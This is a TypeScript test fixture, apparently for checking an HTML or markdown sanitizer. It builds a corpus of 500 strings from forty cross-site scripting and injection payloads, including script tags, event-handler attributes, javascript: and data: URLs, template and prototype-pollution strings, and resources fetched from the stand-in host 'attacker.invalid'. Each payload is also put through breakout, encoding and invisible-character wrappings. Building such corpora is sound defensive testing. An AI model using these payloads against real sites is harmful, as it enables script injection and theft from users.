/**
 * Texts that look like something else: markup, scripts, addresses, templates, styles, marks that turn the direction. Forty by
 * hand, each in many wrappings. All that would be fetched is at one host that does not exist, so that a request is seen.
 */
export const NOWHERE = 'attacker.invalid';
/** What a script among them sets on the page when it runs. */
export const MARK = 'kithInjected';

const RUN = `window.${MARK}=1`;
const URL = `https://${NOWHERE}/x`;

/** The forty, as they are sent from end to end. */
export const INJECTIONS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${URL}.js"></script>`,
  `<script type=module>import("${URL}.mjs")</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${URL}.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="${URL}.svg#a"></use></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<object data="${URL}.swf"></object>`,
  `<embed src="${URL}.pdf">`,
  `<video autoplay src="${URL}.mp4" onerror="${RUN}"></video>`,
  `<audio autoplay src="${URL}.mp3"></audio>`,
  `<link rel=stylesheet href="${URL}.css">`,
  `<link rel=prefetch href="${URL}">`,
  `<style>@import "${URL}.css";body{background:url(${URL})}</style>`,
  `<base href="${URL}/">`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<form action="${URL}"><button autofocus onfocus="${RUN}">Go</button></form>`,
  `<a href="javascript:${RUN}">Photo</a>`,
  `<a href="${URL}" ping="${URL}">Photo</a>`,
  `<details open ontoggle="${RUN}">`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<x-a onanimationstart="${RUN}" style="animation:a 1s">`,
  `javascript:${RUN}`,
  `data:text/html,<script>parent.${MARK}=1</script>`,
  `{@html "<img src=x onerror=${RUN}>"}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `![photo](${URL}.png)`,
  `[photo](javascript:${RUN})`,
  `url(${URL})`,
  `expression(${RUN})`,
  `${URL}?q=<script>${RUN}</script>`,
  `"],"__proto__":{"${MARK}":1},"a":["`,
];

const entities = (text: string): string => [...text].map((one) => (/[<>"'=:]/.test(one) ? `&#${one.codePointAt(0)};` : one)).join('');

const WRAPPINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</title></style></script>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => text.toUpperCase(),
  (text) => encodeURIComponent(text),
  entities,
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => `Hello ${text} there`,
];

/** Five hundred different ones. */
export const CORPUS: readonly string[] = [...new Set(WRAPPINGS.flatMap((wrap) => INJECTIONS.map(wrap)))].slice(0, 500);
